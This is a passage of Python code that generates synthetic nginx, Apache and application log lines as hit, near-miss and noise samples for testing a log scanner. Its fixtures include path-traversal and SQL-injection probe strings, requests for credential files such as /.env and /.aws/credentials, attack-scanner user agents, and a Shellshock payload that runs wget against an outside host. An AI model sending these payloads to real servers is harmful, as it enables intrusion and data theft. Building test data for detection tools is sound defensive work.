    ("near", lambda g: _sd(g, "nginx: Failed with result 'exit-code'.")),
    ("near", lambda g: g.syslog("systemd-coredump", f"Process {g.pid()} (myapp) of user 1000 terminated abnormally without generating a coredump.")),
    # noise
    ("noise", lambda g: g.syslog("systemd-journald", "Journal stopped")),
    ("noise", lambda g: _sd(g, "Reloading.")),
]

# ====================================================================== errors

_JAVA = ["java.lang.NullPointerException: Cannot invoke \"String.length()\" because \"s\" is null",
         "java.net.SocketTimeoutException: Read timed out",
         "java.lang.OutOfMemoryError: Java heap space",
         "java.lang.IllegalStateException: Connection pool shut down"]


def _app(g, level, msg):
    style = g.r.randint(0, 3)
    if style == 0:
        return f"2024-03-{g.r.randint(1, 28):02d} {g.r.randint(0, 23):02d}:{g.r.randint(0, 59):02d}:{g.r.randint(0, 59):02d},{g.r.randint(0, 999):03d} {level.upper():5} [{g.pick(['main', 'http-nio-8080-exec-3', 'pool-2-thread-1'])}] c.e.{g.pick(['OrderService', 'Db', 'Api'])} - {msg}"
    if style == 1:
        return f"time={g.iso_ts()} level={level.lower()} msg=\"{msg}\" svc={g.pick(['api', 'worker'])}"
    if style == 2:
        return "{" + f"\"ts\":\"{g.iso_ts()}\",\"level\":\"{level.lower()}\",\"msg\":\"{msg}\"" + "}"
    return g.syslog(g.pick(["myapp", "worker", "postgres"]), f"{level.upper()}: {msg}")


ERRORS = [
    ("hit", lambda g: _app(g, "error", g.pick(["connection refused by upstream db:5432", "query failed: deadlock detected",
                                                "could not write to /var/lib/app: No space left on device",
                                                "open /etc/app/key.pem: permission denied"]))),
    ("hit", lambda g: _app(g, "Error", "Errors: 3 in batch 17")),
    ("hit", lambda g: _app(g, "fatal", "FATAL: password authentication failed for user \"app\"")),
    ("hit", lambda g: _app(g, "info", "panic: runtime error: index out of range [3] with length 3")),
    ("hit", lambda g: _app(g, "error", "worker panicked, restarting")),
    ("hit", lambda g: g.syslog("apache2", "[crit] (28)No space left on device: AH00023: Couldn't create the mpm-accept mutex")),
    ("hit", lambda g: _app(g, "critical", "disk nearly full")),
    ("hit", lambda g: _app(g, "error", g.pick(_JAVA))),
    ("hit", lambda g: "\tat com.example.orders.OrderService.place(OrderService.java:" + str(g.r.randint(10, 400)) + ")"),
    ("hit", lambda g: "    at org.apache.tomcat.util.net.NioEndpoint$SocketProcessor.doRun(NioEndpoint.java:1789)"),
    ("hit", lambda g: "Traceback (most recent call last):"),
    ("hit", lambda g: "ValueError: invalid literal for int() with base 10: 'abc' exception"),
    ("hit", lambda g: _app(g, "warn", g.pick(["upstream timed out after 30s", "request timeout (5000 ms)", "3 timeouts in the last minute", "lock wait time out", "connection timed-out"]))),
    ("hit", lambda g: _app(g, "warning", "retrying: connect failed")),
    ("hit", lambda g: _app(g, "info", "health check Failure: status 503")),
    ("hit", lambda g: _app(g, "WARN", "slow query: 2.3s")),
    ("hit", lambda g: _app(g, "error", "write tcp 10.0.0.5:443->192.0.2.7:51234: write: broken pipe")),
    ("hit", lambda g: _app(g, "error", "read: Connection reset by peer")),
    ("hit", lambda g: _app(g, "error", "Access denied for user 'app'@'10.0.0.5' (using password: YES)")),
    ("hit", lambda g: _app(g, "error", "fork: Cannot allocate memory")),
    ("hit", lambda g: _app(g, "error", "Out of memory: cannot grow buffer")),
    ("hit", lambda g: _app(g, "error", "write failed: Disk quota exceeded")),
    ("hit", lambda g: _app(g, "error", "open(/var/log/app.log): Read-only file system")),
    ("hit", lambda g: _app(g, "error", "accept4: Too many open files")),
    ("hit", lambda g: g.syslog("bash", "line 1: 4321 Segmentation fault      (core dumped) ./myapp")),
    ("hit", lambda g: _app(g, "error", "worker received SIGSEGV")),
    # near misses
    ("near", lambda g: _app(g, "info", "error_count=0 warn_count=0")),
    ("near", lambda g: _app(g, "info", "set errorlevel to 2; mirrors synced; terror film ok")),
    ("near", lambda g: _app(g, "info", "request took 12ms; timeout_ms=500; timeoutSeconds=30")),
    ("near", lambda g: _app(g, "info", "failover to replica b complete; unfailing service")),
    ("near", lambda g: _app(g, "info", "forewarned is forearmed; warnings_total=0")),
    ("near", lambda g: _app(g, "info", "critic review and critically acclaimed; crits_total")),
    ("near", lambda g: _app(g, "info", "panicky user; exceptions=0; ExceptionHandler ready; fatality rate 0")),
    ("near", lambda g: _app(g, "info", "connection refusedly? no: connection refuse_count=0")),
    ("near", lambda g: _app(g, "info", "permission granted; access allowed")),
    ("near", lambda g: _app(g, "info", "out of memoryless distributions")),
    ("near", lambda g: _app(g, "info", "no space left on devices list")),
    ("near", lambda g: "at the end of the day"),
    ("near", lambda g: "\tat nothing"),
    ("near", lambda g: _app(g, "info", "readonly filesystem mounted at /ro")),
    ("near", lambda g: _app(g, "info", "segmentation faulty test skipped")),
    # noise
    ("noise", lambda g: _app(g, "info", f"GET /api/orders/{g.r.randint(1, 99999)} 200 {g.r.randint(1, 900)}ms")),
    ("noise", lambda g: _app(g, "debug", "cache hit ratio 0.97")),
    ("noise", lambda g: _app(g, "info", "started in 2.4s")),
]

# ====================================================================== access logs

_UA = {
    "browser": ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
                "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
                "Mozilla/5.0 (Linux; Android 14; CUBOT_X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0 Mobile Safari/537.36",
                "curl/8.5.0", "python-requests/2.31.0"],
    "bot": ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
            "Googlebot-Image/1.0", "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
            "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"],
    "scanner": ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x",
                "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.6",
                "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"],
}
_PAGES = ["/", "/index.html", "/products", "/products/42", "/cart", "/checkout", "/api/v1/items",
          "/api/v1/items?page=2", "/static/app.js", "/static/style.css", "/images/logo.png",
          "/search?q=union+station", "/about", "/blog/2024/03/hello", "/favicon.ico",
          "/robots.txt", "/sitemap.xml", "/health", "/api/login", "/login"]
_PROBES = ["/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/blog/wp-includes/wlwmanifest.xml",
           "/wp-content/plugins/revslider/temp/update_extract/x.php", "/wordpress/wp-config.php.bak",
           "/phpmyadmin/index.php", "/PMA/setup/index.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
           "/index.php?s=/Index/\\think\\app/invokefunction", "/.env", "/.git/config", "/.aws/credentials",
           "/server-status", "/cgi-bin/luci/;stok=/locale", "/cgi-bin/test.cgi", "/shell.php", "/config.php",
           "/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/shadow",
           "/products?id=1+UNION+ALL+SELECT+NULL,NULL--", "/products?id=1%27+OR+1=1--",
           "/item?id=1;select+sleep(5)", "/api/v1/items?q=information_schema.tables", "/setup.php"]
_NEAR_PATHS = ["/php-tutorial", "/x.phpx", "/.environment", "/.github/workflows", "/a..b/c",
               "/wordpress-guide", "/search?q=sleepy", "/docs/phpunit-howto.html", "/robots.txt",
               "/login/", "/login?next=%2F", "/cgi-binary/", "/search?q=selection+union"]


def access(g, *, ip=None, method=None, path=None, proto=None, status=None, nbytes=None,
           ref=None, ua=None, rt="maybe", ident="-", user="-", nginx=None):
    """One combined line; rt: 'maybe' (nginx: usually a $request_time), a
    string to append as is, or None (no request time)."""
    r = g.r
    if nginx is None:
        nginx = g.web == "nginx"
    ip = ip or (g.client() if r.random() < 0.7 else g.attacker())
    method = method or r.choices(["GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS"],
                                 weights=[80, 12, 4, 1, 1, 1])[0]
    path = path or g.skew(_PAGES)
    proto = proto or r.choices(["HTTP/1.1", "HTTP/2.0", "HTTP/1.0"], weights=[70, 25, 5])[0]
    status = status or r.choices([200, 204, 206, 301, 302, 304, 400, 401, 403, 404, 405, 429, 499,
                                  500, 502, 503, 504], weights=[60, 3, 1, 3, 4, 5, 1, 1, 2, 6, 1, 1, 1,
                                                                1, 1, 1, 1])[0]
    if nbytes is None:
        nbytes = r.choice(["0", "-"]) if status in (204, 304) else str(r.randint(0, 60000))
        if not nginx and nbytes == "0":
            nbytes = "-"
    ref = ref or r.choice(["-", "-", "https://www.example.com/", "https://www.example.com/products?ref=bot",
                           "https://www.google.com/"])
    ua = ua or g.pick(_UA["browser"])
    line = f'{ip} {ident} {user} [{g.access_ts()}] "{method} {path} {proto}" {status} {nbytes} "{ref}" "{ua}"'
    if rt == "maybe":
        rt = f" {r.choice([r.uniform(0, 0.3), r.uniform(0, 0.3), r.uniform(0.2, 3.5)]):.3f}" if nginx and r.random() < 0.85 else None
    return line + (rt or "")


def _shellshock(g):
    """A Shellshock user agent; a quote inside is logged as \\x22 by nginx
    and as \\" by Apache."""
    q = "\\x22" if g.web == "nginx" else '\\"'
    return "() { :; }; /bin/bash -c " + q + "wget http://198.51.100.4/x" + q


_ACCESS_COMMON = [
    # hits
    ("hit", lambda g: access(g)),
    ("hit", lambda g: access(g)),
    ("hit", lambda g: access(g, status=g.pick([200, 201, 204, 206, 226]))),
    ("hit", lambda g: access(g, status=g.pick([301, 302, 304, 307, 308]))),
    ("hit", lambda g: access(g, status=404, path=g.skew(_PAGES + _PROBES))),
    ("hit", lambda g: access(g, status=g.pick([401, 403]), ip=g.attacker())),
    ("hit", lambda g: access(g, status=g.pick([500, 502, 503, 504]), path=g.skew(["/api/v1/items", "/checkout", "/api/v1/orders"]))),
    ("hit", lambda g: access(g, status=g.pick([418, 451, 444]))),
    ("hit", lambda g: access(g, ua=g.pick(_UA["bot"]), ip=g.pick(["66.249.66.1", "157.55.39.2", "54.36.148.3"]))),
    ("hit", lambda g: access(g, ua=g.pick(_UA["scanner"]), ip=g.attacker(), path=g.pick(_PROBES), status=g.pick([404, 403, 400]))),
    ("hit", lambda g: access(g, path=g.pick(_PROBES), ip=g.attacker(), status=g.pick([404, 404, 403, 200, 301]))),
    ("hit", lambda g: access(g, method="POST", path=g.pick(["/wp-login.php", "/xmlrpc.php", "/login", "/api/login", "/user/login"]), ip=g.attacker(), status=g.pick([200, 302, 401, 403, 429]))),
    ("hit", lambda g: access(g, method="POST", path="/api/v1/orders", status=g.pick([201, 200, 400, 500]))),
    ("hit", lambda g: access(g, method=g.pick(["PUT", "DELETE", "PATCH"]), path="/api/v1/items/" + str(g.r.randint(1, 999)))),
    ("hit", lambda g: access(g, proto="HTTP/1.0", ua="-", ref="-")),
    ("hit", lambda g: access(g, nbytes=str(g.pick([10000000, 10485760, 734003200])), path="/downloads/image.iso", status=200)),
    ("hit", lambda g: access(g, ident="-", user=g.pick(["alice", "bob"]), path="/admin/", status=200)),
    ("hit", lambda g: access(g, method="CONNECT", path="www.example.org:443", status=g.pick([400, 405]))),
    ("hit", lambda g: access(g, path="http://www.example.org/proxy-check", status=404)),
    ("hit", lambda g: access(g, path="/cgi-bin/status", ua=_shellshock(g))),
    ("hit", lambda g: access(g, ua="-", ref="-")),
    # near misses
    ("near", lambda g: access(g, path=g.pick(_NEAR_PATHS), status=200)),
    ("near", lambda g: access(g, path=g.pick(_NEAR_PATHS), method="POST", status=g.pick([200, 302]))),
    ("near", lambda g: access(g, method="post", path="/login", status=200)),
    ("near", lambda g: access(g, method="GET", path="/login", status=200)),
    ("near", lambda g: access(g, ref="https://www.example.com/?utm_source=bot-network&crawler=1", ua=g.pick(_UA["browser"]))),
    ("near", lambda g: access(g, ua="Mozilla/5.0 (Linux; Android 13; CUBOT_NOTE_30) Chrome/120.0 Mobile")),
    ("near", lambda g: access(g, path="/sqlmap-notes.html", ua=g.pick(_UA["browser"]))),
    ("near", lambda g: access(g, nbytes="9999999", status=200)),
    ("near", lambda g: access(g, nbytes="0", status=200)),
    ("near", lambda g: access(g, nbytes="-", status=304)),
    ("near", lambda g: access(g, proto="HTTP/1.1", ua="")),
    ("near", lambda g: access(g, status=200, path="/404")),
    ("near", lambda g: access(g, status=200, path="/errors/500.html")),
    ("near", lambda g: f'{g.client()} - - {g.access_ts().replace(" ", "_")} "GET /index.html HTTP/1.1" 200 512 "-" "curl/8.5.0"'),
    ("near", lambda g: f'{g.client()} - - [{g.access_ts()}] GET /index.html HTTP/1.1 404 512'),
]


def _nginx_error(g, level, msg):
    r = g.r
    return f"2024/{r.randint(1, 12):02d}/{r.randint(1, 28):02d} {r.randint(0, 23):02d}:{r.randint(0, 59):02d}:{r.randint(0, 59):02d} [{level}] {r.randint(100, 9999)}#{r.randint(100, 9999)}: *{r.randint(1, 10**6)} {msg}"


NGINX = _ACCESS_COMMON + [
    ("hit", lambda g: access(g, status=429, ip=g.attacker(), method="POST", path="/api/login")),
    ("hit", lambda g: access(g, status=499, path="/api/v1/search?q=long")),
    ("hit", lambda g: access(g, status=400, method="GET", path="/", proto="HTTP/1.1", ip=g.attacker())),
    ("hit", lambda g: f'{g.attacker()} - - [{g.access_ts()}] "-" 400 0 "-" "-"'),
    ("hit", lambda g: f'{g.attacker()} - - [{g.access_ts()}] "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03" 400 157 "-" "-"'),
    ("hit", lambda g: access(g, rt=" " + g.pick(["1.000", "1", "2.5", "14.002", "0.999", "0.000", "0"]))),
    ("hit", lambda g: access(g, rt=' "-"')),
    ("hit", lambda g: access(g, rt=None)),
    ("hit", lambda g: _nginx_error(g, "error", f'upstream timed out (110: Connection timed out) while reading response header from upstream, client: {g.client()}, server: www.example.com, request: "GET /api/v1/items HTTP/1.1", upstream: "http://127.0.0.1:8080/api/v1/items", host: "www.example.com"')),
    ("hit", lambda g: _nginx_error(g, "error", f'connect() failed (111: Connection refused) while connecting to upstream, client: {g.client()}, server: www.example.com, request: "GET / HTTP/1.1", upstream: "http://127.0.0.1:8080/", host: "www.example.com"')),
    ("hit", lambda g: _nginx_error(g, "error", f'no live upstreams while connecting to upstream, client: {g.client()}, server: www.example.com, request: "GET / HTTP/1.1", upstream: "http://backend/", host: "www.example.com"')),
    ("hit", lambda g: _nginx_error(g, "error", f'open() "/var/www/html/wp-login.php" failed (2: No such file or directory), client: {g.attacker()}, server: www.example.com, request: "GET /wp-login.php HTTP/1.1", host: "www.example.com"')),
    ("hit", lambda g: _nginx_error(g, "error", f'limiting requests, excess: {g.r.randint(1, 30)}.{g.r.randint(0, 999):03d} by zone "{g.pick(["perip", "login"])}", client: {g.attacker()}, server: www.example.com, request: "POST /api/login HTTP/1.1", host: "www.example.com"')),
    ("hit", lambda g: _nginx_error(g, "crit", f'SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key share) while SSL handshaking, client: {g.attacker()}, server: 0.0.0.0:443')),
    ("near", lambda g: _nginx_error(g, "warn", f'an upstream response is buffered to a temporary file /var/cache/nginx/proxy_temp/1/00/0000000001 while reading upstream, client: {g.client()}, server: www.example.com')),
    ("near", lambda g: _nginx_error(g, "warn", f'delaying request, excess: 0.{g.r.randint(100, 999)} by zone "perip", client: {g.client()}, server: www.example.com, request: "GET / HTTP/1.1"')),
    ("near", lambda g: _nginx_error(g, "notice", "signal process started")),
    ("near", lambda g: _nginx_error(g, "info", f'client {g.client()} closed keepalive connection')),
    ("near", lambda g: g.syslog("myapp", "upstream timed out talking to redis")),
]


def _apache_error(g, level, msg, v24=None):
    r = g.r
    if v24 is None:
        v24 = r.random() < 0.5
    day = g.pick(["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"])
    mon = g.pick(MONTHS)
    if v24:
        ts = f"{day} {mon} {r.randint(1, 28):02d} {r.randint(0, 23):02d}:{r.randint(0, 59):02d}:{r.randint(0, 59):02d}.{r.randint(0, 999999):06d} 2024"
        mod = g.pick(["core", "authz_core", "php7", "ssl", "mpm_prefork", "cgi"])
        return f"[{ts}] [{mod}:{level}] [pid {g.pid()}] {msg}"
    ts = f"{day} {mon} {r.randint(1, 28):02d} {r.randint(0, 23):02d}:{r.randint(0, 59):02d}:{r.randint(0, 59):02d} 2005"
    return f"[{ts}] [{level}] {msg}"


def _apache_client(g, v24):
    return f"[client {g.attacker()}:{g.port()}]" if v24 else f"[client {g.attacker()}]"


def _apache_err_client(g, level, tail):
    v24 = g.r.random() < 0.5
    return _apache_error(g, level, f"{_apache_client(g, v24)} {tail}", v24)


APACHE = _ACCESS_COMMON + [
    # Apache writes "-" for an empty body and has no request time.
    ("hit", lambda g: access(g, nginx=False)),
    ("hit", lambda g: access(g, nginx=False, status=500, path="/cgi-bin/report.pl")),
    ("hit", lambda g: access(g, nginx=False, method=g.pick(["OPTIONS", "TRACE", "TRACK"]), path="*" if g.r.random() < 0.5 else "/")),
    ("hit", lambda g: f'{g.client()} - {g.pick(["-", "frank"])} [{g.access_ts()}] "GET /apache_pb.gif HTTP/1.0" {g.pick([200, 304, 404])} {g.pick(["2326", "-"])}'),
    ("hit", lambda g: f'{g.attacker()} - - [{g.access_ts()}] "-" 408 - "-" "-"'),
    ("hit", lambda g: _apache_error(g, "error", "mod_jk child workerEnv in error state " + str(g.r.randint(5, 9)), v24=False)),
    ("hit", lambda g: _apache_error(g, "error", f"jk2_init() Can't find child {g.pid()} in scoreboard", v24=False)),
    ("hit", lambda g: _apache_err_client(g, "error", "Directory index forbidden by rule: " + g.skew(["/var/www/html/", "/var/www/html/images/"]))),
    ("hit", lambda g: _apache_err_client(g, "error", "AH01276: Cannot serve directory /var/www/html/uploads/: No matching DirectoryIndex (index.html) found, and server-generated directory index forbidden by Options directive")),
    ("hit", lambda g: _apache_err_client(g, "error", "Directory index forbidden by Options directive: /var/www/html/files/")),
    ("hit", lambda g: _apache_err_client(g, "error", "client denied by server configuration: " + g.skew(["/var/www/html/.git", "/var/www/html/.htaccess", "/srv/private"]))),
    ("hit", lambda g: _apache_err_client(g, "error", "File does not exist: " + g.skew(["/var/www/html/favicon.ico", "/var/www/html/wp-login.php", "/var/www/html/robots.txt"]))),
    ("hit", lambda g: _apache_err_client(g, "error", "AH01264: script not found or unable to stat: /usr/lib/cgi-bin/php")),
    ("hit", lambda g: _apache_err_client(g, "error", "script '/var/www/html/shell.php' not found or unable to stat")),
    ("hit", lambda g: _apache_error(g, "notice", f"child pid {g.pid()} exit signal Segmentation fault (11)")),
    ("hit", lambda g: _apache_error(g, "error", "server reached MaxRequestWorkers setting, consider raising the MaxRequestWorkers setting", v24=True)),
    ("hit", lambda g: _apache_error(g, "error", "server reached MaxClients setting, consider raising the MaxClients setting", v24=False)),
    ("hit", lambda g: _apache_error(g, "error", f"[client {g.attacker()}:{g.port()}] AH02032: Hostname www.example.com provided via SNI and hostname evil.example provided via HTTP are different", v24=True)),
    ("hit", lambda g: _apache_error(g, "info", f"[client {g.attacker()}:{g.port()}] AH02008: SSL library error 1 in handshake (server www.example.com:443) SSL Library Error: error:0A000126", v24=True)),
    ("hit", lambda g: _apache_error(g, "crit", "(28)No space left on device: AH00023: Couldn't create the proxy mutex", v24=True)),
    ("hit", lambda g: _apache_error(g, "warn", "AH00558: apache2: Could not reliably determine the server's fully qualified domain name")),
    ("hit", lambda g: _apache_error(g, "emerg", "(98)Address already in use: AH00072: make_sock: could not bind to address [::]:80")),
    ("hit", lambda g: _apache_error(g, "error", f"[client ::1:{g.port()}] AH01630: client denied by server configuration: /var/www/html/server-status", v24=True)),
    ("near", lambda g: _apache_error(g, "notice", "workerEnv.init() ok /etc/httpd/conf/workers2.properties", v24=False)),
    ("near", lambda g: _apache_error(g, "notice", f"jk2_init() Found child {g.pid()} in scoreboard slot {g.r.randint(1, 10)}", v24=False)),
    ("near", lambda g: _apache_error(g, "notice", "mod_jk child init 1 -2", v24=False)),
    ("near", lambda g: _apache_error(g, "notice", "AH00094: Command line: '/usr/sbin/apache2'")),
    ("near", lambda g: _apache_error(g, "info", "server seems busy, (you may need to increase StartServers, or Min/MaxSpareServers)")),
    ("near", lambda g: _apache_error(g, "notice", f"child pid {g.pid()} exit signal Hangup (1)")),
    ("near", lambda g: _apache_error(g, "debug", "mod_proxy.c(1234): AH01143: Running scheme http handler (attempt 0)", v24=True)),
    ("near", lambda g: f"[{g.pick(['Mon', 'Tue'])} Mar 04 10:00:00 2024] error: not an apache line"),
    ("near", lambda g: g.syslog("myapp", "File does not exist yet, creating")),
]


PACKS = {
    "nginx": NGINX,
    "apache": APACHE,
    "sshd": SSHD,
    "sudo": SUDO,
    "kernel": KERNEL,
    "systemd": SYSTEMD,
    "errors": ERRORS,
}

# Which `--format` a pack's sample is scanned with (see each pack's header).
FORMAT = {"nginx": "combined", "apache": "combined", "sshd": "raw", "sudo": "raw",
          "kernel": "raw", "systemd": "raw", "errors": "raw"}

# How many random lines each sample log has after the one-of-each pass.
SAMPLE_DRAWS = {"nginx": 420, "apache": 420, "sshd": 330, "sudo": 260, "kernel": 300,
                "systemd": 260, "errors": 300}


def _draw(makers, g, n):
    weights = [{"hit": 3.0, "near": 1.5, "noise": 1.0}[k] for k, _ in makers]
    return [f(g) for _, f in g.r.choices(makers, weights=weights, k=n)]


def sample(pack, seed=20240303, n=None):
    """A pack's sample log as a list of lines: every maker once, then n
    random draws."""
    g = Gen(random.Random(f"{pack}:{seed}"), web="apache" if pack == "apache" else "nginx")
    makers = PACKS[pack]
    out = [f(g) for _, f in makers]
    out += _draw(makers, g, SAMPLE_DRAWS[pack] if n is None else n)
    return out


def lines(pack, rng, n):
    """n random lines in a pack's style (for the exactness corpus)."""
    return _draw(PACKS[pack], Gen(rng, web="apache" if pack == "apache" else "nginx"), n)
